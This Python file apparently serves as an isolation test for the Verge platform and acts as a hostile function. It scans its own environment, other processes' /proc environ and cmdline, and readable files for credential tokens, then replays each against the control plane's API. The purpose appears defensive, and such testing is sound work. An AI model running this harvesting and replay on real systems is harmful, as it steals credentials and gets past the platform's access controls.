"""Does what a hostile function would to get at the control plane: collects every Verge credential it can find
(environment, other processes' environments and command lines, files it can read under the data directory and
the cluster's directory) and calls the control plane's API with each, and with none.
`?api=URL` names the control plane, `?root=DIR` the cluster's directory (data, configuration, logs)."""

import json
import os
import re
import urllib.error
import urllib.request

PATTERN = re.compile(rb"verge_(?:api|host|gw|gwp|cp|cpp|join)_[0-9a-f]{16}_[0-9a-f]{64}")


def scan_bytes(data, found, where):
    for match in PATTERN.findall(data):
        found.setdefault(match.decode(), where)


def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(4 * 1024 * 1024)
    except OSError:
        return None


def scan_tree(root, found, limit=20000):
    seen = 0
    for directory, dirs, files in os.walk(root, onerror=lambda error: None):
        if directory == "/":
            # Processes are scanned above; devices and the system's own files hold no credential (and /dev/zero
            # never ends).
            dirs[:] = [name for name in dirs if name not in ("proc", "dev", "sys", "usr")]
        for name in files:
            seen += 1
            if seen > limit:
                return
            path = os.path.join(directory, name)
            data = read(path)
            if data:
                scan_bytes(data, found, path)


def call(url, token):
    request = urllib.request.Request(url)
    if token:
        request.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(request, timeout=3) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return "unreachable: %s" % error


def handle(request):
    found = {}
    for value in os.environ.values():
        scan_bytes(value.encode(), found, "own environment")
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for part in ("environ", "cmdline"):
                data = read("/proc/%s/%s" % (pid, part))
                if data:
                    scan_bytes(data, found, "/proc/%s/%s" % (pid, part))
    bundle = os.environ.get("VERGE_BUNDLE_DIR", "/")
    roots = [os.path.abspath(os.path.join(bundle, "..", "..", "..", ".."))]
    if request.query_params.get("root"):
        roots.append(request.query_params["root"])
    for root in roots:
        scan_tree(root, found)
    api = request.query_params.get("api", "")
    calls = {}
    for path in ("/v1/functions", "/v1/hosts", "/v1/usage", "/v1/tokens"):
        calls[path + " without a credential"] = call(api + path, None)
        for token, where in found.items():
            calls["%s with the credential from %s" % (path, where)] = call(api + path, token)
    return {"found": sorted(found.values()), "calls": calls}
